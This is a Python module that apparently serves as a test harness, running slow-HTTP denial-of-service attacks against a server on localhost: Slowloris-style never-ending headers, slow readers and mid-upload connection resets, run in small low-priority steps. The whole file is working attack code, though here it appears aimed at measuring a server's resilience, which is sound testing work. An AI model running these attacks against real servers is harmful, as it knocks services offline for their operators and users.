"""Attacks a server: heads that never end, readers that hardly read, resets.

Everything happens in small steps on one thread that gives way to the honest
client on its core, so that the attack costs the server and not the observer.
"""

import os
import socket
import struct
import time

STEP_SECONDS = 0.002
HEAD_BEGIN = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Filler: "
READ_BEGIN = b"GET /content/1048576 HTTP/1.1\r\nHost: localhost\r\n\r\n"
READ_OCTETS = 512
UPLOAD_BEGIN = (
    b"POST /length HTTP/1.1\r\nHost: localhost\r\n"
    b"Content-Length: 100000\r\n\r\n" + b"u" * 1000
)


def _connect(port, receive_octets=None):
    peer = socket.socket()
    if receive_octets:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_octets)
    peer.settimeout(5)
    peer.connect(("127.0.0.1", port))
    return peer


class Slowloris:
    """Sends a head octet by octet and never ends it."""

    done = 0

    def __init__(self, port):
        self.port = port
        self.socket = None

    def step(self):
        """Sends one more octet."""
        if self.socket is None:
            self.socket = _connect(self.port)
            self.socket.send(HEAD_BEGIN)
        try:
            self.socket.send(b"a")
            Slowloris.done += 1
        except OSError:
            self.socket.close()
            self.socket = None


class SlowReader:
    """Asks for a mebibyte and takes a few octets at a time."""

    done = 0

    def __init__(self, port):
        self.port = port
        self.socket = None

    def step(self):
        """Reads a little."""
        if self.socket is None:
            self.socket = _connect(self.port, receive_octets=4096)
            self.socket.send(READ_BEGIN)
            self.socket.setblocking(False)
            return
        try:
            count = len(self.socket.recv(READ_OCTETS))
        except BlockingIOError:
            return
        except OSError:
            count = 0
        SlowReader.done += count
        if count == 0:
            self.socket.close()
            self.socket = None


class Resetter:
    """Begins an upload and resets in the middle of it."""

    done = 0

    def __init__(self, port):
        self.port = port

    def step(self):
        """Comes and goes once."""
        peer = _connect(self.port)
        peer.send(UPLOAD_BEGIN)
        peer.setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
        )
        peer.close()
        Resetter.done += 1


def attack(port, counts, begun, over, results):
    """Attacks until `over` is set; `begun` is set once all are connected.

    `counts` says how many of each kind there are, in the order slowloris, slow
    readers, resetting ones. `results` gets what each kind has done.
    """
    os.nice(19)
    kinds = (Slowloris, SlowReader, Resetter)
    crews = [
        [kind(port) for _ in range(count)]
        for kind, count in zip(kinds, counts)
    ]
    for crew in crews:
        for one in crew:
            one.step()
    begun.set()
    turn = 0
    while not over.is_set():
        # Each step moves a fiftieth of every crew: all move 10 times a second.
        for crew in crews:
            for one in crew[turn % 50 :: 50]:
                one.step()
        turn += 1
        time.sleep(STEP_SECONDS)
    results.put([kind.done for kind in kinds])
